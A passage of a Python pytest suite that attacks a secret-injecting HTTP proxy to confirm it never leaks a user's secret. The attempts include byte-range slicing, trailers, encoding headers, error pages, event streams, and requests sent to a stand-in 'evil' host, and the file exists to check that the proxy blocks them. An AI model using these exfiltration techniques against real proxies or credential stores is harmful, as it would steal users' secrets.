            return raw_response(data[int(a):int(b) + 1], b"206 Partial Content",
                                b"Content-Range: bytes %s-%s/%d\r\n" % (a, b, len(data)))
        return raw_response(data)
    up = s.raw_upstream(answer)
    s.allow(up)
    s.via(up, post(up, s.ph.encode(), path="/note").replace(b"POST", b"PUT", 1))
    slices = [s.via(up, get(up, "/note", f"{header_name}: bytes={i}-{i + 5}\r\n")) for i in range(0, len(s.value), 6)]
    return b"\n".join(slices) + b"\n" + b"".join(out.partition(b"\r\n\r\n")[2] for out in slices)


@attack
def echo_in_malformed_status_line_quoted_by_the_error_page(s):
    """An error page that quoted the upstream would show the value escaped (quotes, backslash)."""
    quoted = s.value + "\"q\\"
    s.proxy.add_secret(s.session["principal"], "Q", quoted, s.api.origin)
    up = s.raw_upstream(lambda head, body, sock: b"HTTP/1.1 2" + quoted.encode() + b" OK\r\nContent-Length: 0\r\n\r\n")
    out = s.via(up, get(up))
    forms = (quoted.encode(), repr(quoted.encode())[2:-1].encode(), repr(quoted)[1:-1].encode(),
             quoted.replace('"', "&quot;").encode(), s.value.encode()[:12])
    leaked = [i for i, form in enumerate(forms) if form in out]
    assert not leaked, "the error page quotes the value"
    return out, b"upstream_failed"


@attack
def placeholder_in_http1_request_trailers_to_other_host(s):
    """HTTP/1 trailers are dropped (mitmproxy cannot relay them): the request still goes, without them."""
    return s.via(s.evil, f"POST / HTTP/1.1\r\nHost: {s.evil.target}\r\nTransfer-Encoding: chunked\r\n"
                         f"Trailer: X-Key\r\nConnection: close\r\n\r\n2\r\nhi\r\n0\r\nX-Key: {s.ph}\r\n\r\n"), \
        b"HTTP/1.1 200"


@attack
def echo_in_http1_response_trailers(s):
    return _echo(s, lambda v: b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nTrailer: X-T\r\n\r\n"
                              b"2\r\nok\r\n0\r\nX-T: " + v + b"\r\n\r\n"), b"2\r\nok\r\n0\r\n\r\n"


def _stored_then_pushed(s: Scene, streamed: bool) -> bytes:
    """Run A holds a response open (SSE, or a long poll); the user adds K; run B stores K at the
    origin, which then sends it down A's response: A must get it scrubbed."""
    import threading
    stored: list[bytes] = []
    have = threading.Event()

    def answer(head, body, sock):
        if head.startswith(b"PUT"):
            stored.append(body)
            have.set()
            return raw_response(b"stored")
        if streamed:
            sock.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nTransfer-Encoding: chunked\r\n\r\n"
                         b"d\r\ndata: hello\n\n\r\n")
        have.wait(10)
        event = b"data: note " + b"".join(stored) + b"\n\n"
        if not streamed:
            return raw_response(event)
        sock.sendall(b"%x\r\n%s\r\n0\r\n\r\n" % (len(event), event))
        time.sleep(0.3)
        return None
    up = s.raw_upstream(answer)
    s.proxy.cli("secret", "rm", "--user", s.session["principal"], "--name", "K")
    s.proxy.add_secret(s.session["principal"], "OLD", s.value + "-old", up.origin)
    reader = tunnel(s.session, s.proxy.port, up.target, None)
    reader.sendall(f"GET /events HTTP/1.1\r\nHost: {up.target}\r\nConnection: close\r\n\r\n".encode())
    time.sleep(0.3)  # the reader's response has begun (or its request is waiting upstream)
    s.proxy.add_secret(s.session["principal"], "K", s.value, up.origin)
    s.allowed = up
    writer = s.proxy.issue(user=s.session["principal"])
    one_request(writer, s.proxy.port, up.target, None,
                f"PUT /note HTTP/1.1\r\nHost: {up.target}\r\nContent-Length: {len(writer['env']['K'])}\r\n"
                f"Connection: close\r\n\r\n{writer['env']['K']}".encode())
    out = read_all(reader, 3)
    reader.close()
    return out


@attack
def secret_added_while_an_event_stream_is_open(s):
    return _stored_then_pushed(s, streamed=True), b" sg."  # (the chunk framing may split the line)


@attack
def secret_added_during_a_long_poll(s):
    return _stored_then_pushed(s, streamed=False), b"data: note sg."


@attack
def request_range_slices_of_a_stored_value(s):
    """`Request-Range`, the older name some servers (Apache httpd) still honour, is dropped as Range is."""
    return _slices_of_a_stored_value(s, "Request-Range"), None


# --- the upstream names a coding after the value (review of issue 11) ---------------------------------
# A refusal's detail is sealgate's own text and is not scrubbed: what it quotes of a response must have been
# scrubbed first (the head is, before the body is decoded). Codings are read in lower case, so the value is
# sought in lower case too.

def _coding_echo(header_name: bytes) -> Callable:
    def answer(head: bytes, body: bytes, sock) -> bytes:
        return (b"HTTP/1.1 200 OK\r\n" + header_name + b": " + header(head, b"x-key") + b"\r\nConnection: close\r\n"
                b"Content-Length: 2\r\n\r\nhi")
    return answer


def _echoed_as_coding(s, header_name: bytes):
    up = s.raw_upstream(_coding_echo(header_name))
    s.allow(up)
    got = s.via(up, get(up, headers=f"X-Key: {s.ph}\r\n"))
    lowered = s.value.lower().encode() in got.lower()
    assert not lowered, "the worker received the value in lower case"
    return got, b"502 Bad Gateway"


@attack
def value_echoed_as_the_content_encoding(s):
    return _echoed_as_coding(s, b"Content-Encoding")


@attack
def value_echoed_as_the_transfer_encoding(s):
    return _echoed_as_coding(s, b"Transfer-Encoding")


# --- the one test ----------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def mirrors(pki):
    return RawUpstream(pki, mirror), RawUpstream(pki, mirror, host="127.0.0.2")


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_attack(name, proxy, pki, mirrors, user, value):
    api, evil = mirrors
    evil_before = len(evil.received)
    proxy.add_secret(user, "K", value, api.origin)
    session = proxy.issue(user=user)
    scene = Scene(proxy, session, session["env"]["K"], value, api, evil, pki, [])
    scene.allowed = api
    got, expected = ATTACKS[name](scene)
    v = value.encode()
    # each check is a bool first: a failing assert must not print the value
    at_worker = v in got
    assert not at_worker, f"{name}: the worker received the value"
    at_evil = any(v in h + b for h, b in evil.received[evil_before:])
    assert not at_evil, f"{name}: the value reached evil"
    for up in scene.extra:
        if up is not scene.allowed:
            at_other = v in up.seen()
            assert not at_other, f"{name}: the value reached a non-allowed upstream"
    at_operators = v in proxy.visible_to_operators()
    assert not at_operators, f"{name}: the value is in sealgate's output or files"
    if expected is not None:
        assert expected in got, f"{name}: expected {expected!r} in {got[:300]!r}"


def test_there_are_at_least_forty_attacks():
    assert len(ATTACKS) >= 40, len(ATTACKS)
